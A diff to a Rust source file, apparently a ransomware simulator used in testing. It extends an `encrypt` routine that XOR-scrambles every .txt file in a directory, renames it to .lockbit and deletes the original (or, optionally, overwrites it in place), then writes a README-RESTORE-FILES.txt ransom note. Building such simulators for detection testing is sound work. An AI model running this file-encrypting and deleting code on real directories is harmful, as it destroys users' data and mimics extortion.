@@ -291,6 +291,13 @@ pub fn make_share(root: &Path) {
 /// Every `.txt` file of `dir` encrypted into `NAME.lockbit` (the original
 /// deleted), and a ransom note.
 pub fn encrypt(dir: &Path) {
+    encrypt_with(dir, true);
+}
+
+/// Every `.txt` file of `dir` encrypted, into `NAME.lockbit` (the original
+/// deleted) when `rename`, else in place under its own name; and a ransom
+/// note.
+pub fn encrypt_with(dir: &Path, rename: bool) {
     let mut state = 0x9e37_79b9_7f4a_7c15u64;
     for entry in std::fs::read_dir(dir).unwrap() {
         let path = entry.unwrap().path();
@@ -304,10 +311,14 @@ pub fn encrypt(dir: &Path) {
                 b ^ (state as u8)
             })
             .collect();
-        let mut target = path.clone().into_os_string();
-        target.push(".lockbit");
-        std::fs::write(&target, sealed).unwrap();
-        std::fs::remove_file(&path).unwrap();
+        if rename {
+            let mut target = path.clone().into_os_string();
+            target.push(".lockbit");
+            std::fs::write(&target, sealed).unwrap();
+            std::fs::remove_file(&path).unwrap();
+        } else {
+            std::fs::write(&path, sealed).unwrap();
+        }
     }
     std::fs::write(
         dir.join("README-RESTORE-FILES.txt"),
